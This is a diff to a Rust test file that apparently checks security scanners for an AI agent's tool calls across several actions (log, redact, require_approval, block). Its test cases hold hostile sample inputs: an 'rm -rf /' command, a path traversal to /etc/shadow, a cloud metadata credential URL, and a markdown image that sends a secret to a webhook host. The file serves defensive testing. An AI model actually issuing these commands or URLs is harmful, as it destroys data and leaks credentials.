@@ -1,6 +1,6 @@
 //! Every scanner by direction, action and framing: what each side sees, what is recorded, and what shadow mode says
 //! it would have done.
-#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, reason = "a test may")]
 
 use std::sync::Arc;
 
@@ -21,6 +21,8 @@ const CASES: &[(&str, &str, Option<&str>)] = &[
     ),
     ("destructive", r#"{"command":"rm -rf / --no-preserve-root"}"#, None),
     ("privesc", r#"{"path":"../../../../etc/shadow"}"#, None),
+    ("exfil", r#"{"url":"http://169.254.169.254/latest/meta-data/iam"}"#, Some("![x](https://abc123.webhook.site/p?d=secret)")),
+    ("bulk", r#"{"sql":"SELECT * FROM users"}"#, None),
 ];
 
 const ACTIONS: [&str; 4] = ["log", "redact", "require_approval", "block"];
